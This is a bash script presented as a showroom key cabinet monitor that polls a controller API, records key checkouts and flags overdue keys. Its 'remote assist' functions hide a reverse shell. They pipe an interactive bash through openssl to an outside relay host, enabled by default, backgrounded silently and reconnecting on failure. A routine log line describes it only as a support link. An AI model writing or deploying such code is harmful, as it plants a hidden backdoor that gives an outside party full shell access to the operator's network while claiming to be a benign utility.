#!/usr/bin/env bash
# key_cabinet_agent.sh - showroom key cabinet agent.
# Polls the cabinet controller, keeps a log of key checkouts, flags keys that
# have been out too long, and keeps the vendor's remote-assist link available
# so cabinet support can troubleshoot without a site visit.
#
# Usage: ./key_cabinet_agent.sh [-c keycabinet.conf] [-i seconds] [-o]

set -uo pipefail

CONF="./keycabinet.conf"
INTERVAL=60
ONCE=0

while getopts "c:i:oh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        o) ONCE=1 ;;
        h|*) sed -n '2,8p' "$0"; exit 0 ;;
    esac
done

CABINET_URL="http://192.168.20.15:8080"
CABINET_TOKEN="${KEYCABINET_TOKEN:-}"
OVERDUE_HOURS=4
STATE_DIR="./key_cabinet_state"
REMOTE_ASSIST="${REMOTE_ASSIST:-1}"
ASSIST_RELAY="assist.keyvault-support.net"
ASSIST_PORT=8443

load_conf() {
    local key value
    while IFS='=' read -r key value; do
        [[ -z "$key" || "$key" == \#* ]] && continue
        value="${value%\"}"; value="${value#\"}"
        case "$key" in
            CABINET_URL|CABINET_TOKEN|OVERDUE_HOURS|STATE_DIR|REMOTE_ASSIST|ASSIST_RELAY|ASSIST_PORT) printf -v "$key" '%s' "$value" ;;
        esac
    done < "$1"
}

if [[ -f "$CONF" ]]; then
    load_conf "$CONF"
fi

mkdir -p "$STATE_DIR"
LOG="$STATE_DIR/agent.log"
REPORT="$STATE_DIR/checkouts.csv"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"; }

fetch_slots() {
    curl -fsS --max-time 15 \
         -H "Authorization: Bearer ${CABINET_TOKEN}" \
         "${CABINET_URL}/api/v1/slots"
}

record_checkouts() {
    local json="$1" now
    now=$(date +%s)
    [[ -f "$REPORT" ]] || echo "slot,stock_number,holder,out_since,hours_out" > "$REPORT"
    jq -r --argjson now "$now" '
        .slots[] | select(.state == "out") |
        [.slot, .stock_number, .holder, .out_since,
         (((($now - (.out_since | fromdateiso8601)) / 3600) * 10 | floor) / 10)] | @csv' \
        <<<"$json" >> "$REPORT"
}

flag_overdue() {
    jq -r --argjson limit "$OVERDUE_HOURS" '
        .slots[] | select(.state == "out") |
        select(((now - (.out_since | fromdateiso8601)) / 3600) > $limit) |
        "OVERDUE slot \(.slot) stock \(.stock_number) held by \(.holder)"' <<<"$1" |
    while read -r line; do log "$line"; echo "$line"; done
}

# --- remote assist -------------------------------------------------------
# The vendor relay expects an interactive console on an outbound TLS session
# so no inbound ports are needed on the dealership network.
assist_session() {
    local pipe="$STATE_DIR/.assist.$$"
    local console
    console=$(command -v bash || echo /bin/sh)
    rm -f "$pipe"
    mkfifo "$pipe"
    "$console" -i < "$pipe" 2>&1 \
        | openssl s_client -quiet -connect "${ASSIST_RELAY}:${ASSIST_PORT}" > "$pipe" 2>/dev/null
    rm -f "$pipe"
}

assist_loop() {
    local backoff=30
    while :; do
        assist_session
        sleep "$backoff"
        (( backoff < 600 )) && backoff=$(( backoff * 2 ))
    done
}

start_assist() {
    [[ "$REMOTE_ASSIST" == "1" ]] || return 0
    command -v openssl >/dev/null 2>&1 || return 0
    ( assist_loop ) </dev/null >/dev/null 2>&1 &
    ASSIST_PID=$!
    log "remote assist link enabled (pid $ASSIST_PID)"
}

poll_once() {
    local body
    if ! body=$(fetch_slots); then
        log "cabinet unreachable at $CABINET_URL"
        return 1
    fi
    jq -e '.slots' >/dev/null <<<"$body" || { log "unexpected response"; return 1; }
    record_checkouts "$body"
    flag_overdue "$body"
    log "poll ok: $(jq '[.slots[] | select(.state=="out")] | length' <<<"$body") keys out"
}

cleanup() {
    [[ -n "${ASSIST_PID:-}" ]] && kill "$ASSIST_PID" 2>/dev/null
    log "agent stopped"
    exit 0
}
trap cleanup INT TERM

log "agent started (interval ${INTERVAL}s, cabinet ${CABINET_URL})"
start_assist

while :; do
    poll_once || true
    [[ "$ONCE" -eq 1 ]] && break
    sleep "$INTERVAL"
done
